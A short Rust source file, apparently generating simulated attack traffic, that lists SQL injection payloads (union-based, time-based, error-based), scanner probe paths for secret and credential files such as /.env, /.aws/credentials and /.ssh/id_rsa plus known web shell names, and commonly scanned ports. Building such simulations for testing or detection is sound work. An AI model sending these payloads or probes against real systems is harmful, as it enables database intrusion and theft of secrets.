//! What attackers send.

/// Injections into a query value; `{n}` becomes a number, so that each is distinct.
pub(crate) const INJECTIONS: [&str; 14] = [
    "' OR {n}={n}-- -",
    "1' AND {n}={n} UNION SELECT NULL,NULL,version()-- -",
    "1 UNION ALL SELECT user,password FROM members WHERE id={n}",
    "' AND SLEEP(5) AND '{n}'='{n}",
    "1) OR 1=1 AND SLEEP({n})#",
    "admin'-- {n}",
    "'; WAITFOR DELAY '0:0:5'-- {n}",
    "1' ORDER BY {n}-- -",
    "-1' UNION SELECT 1,CONCAT(0x7171,table_name,0x{n}),3 FROM information_schema.tables-- -",
    "1' AND EXTRACTVALUE({n},CONCAT(0x5c,(SELECT database())))-- -",
    "1 AND (SELECT {n} FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    "' OR (SELECT BENCHMARK({n},MD5('a')))-- -",
    "1'||(SELECT '' FROM dual WHERE {n}={n})||'",
    "%' OR 'a{n}'='a{n}",
];

/// Paths a scanner looks for; `{n}` becomes a number.
pub(crate) const PROBES: [&str; 30] = [
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-admin/setup-config.php",
    "/wp-content/plugins/backup-{n}/readme.txt",
    "/.env",
    "/.env.{n}",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/phpmyadmin/index.php",
    "/pma{n}/index.php",
    "/admin/login.php",
    "/admin/config.php",
    "/shell{n}.php",
    "/c99.php",
    "/upload/{n}.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/env",
    "/actuator/heapdump",
    "/server-status",
    "/cgi-bin/test-{n}.cgi",
    "/backup-{n}.sql",
    "/db{n}.sql",
    "/config.php.bak",
    "/index.php.old",
    "/backup/site-{n}.zip",
    "/manager/html",
    "/.htpasswd",
];

/// Ports a scanner tries first, then the rest by number.
pub(crate) const PORTS: [u16; 24] = [
    21, 22, 23, 25, 53, 110, 111, 135, 139, 143, 445, 993, 1433, 1521, 2375, 3306, 3389, 5432, 5900, 6379,
    8080, 8443, 9200, 27017,
];
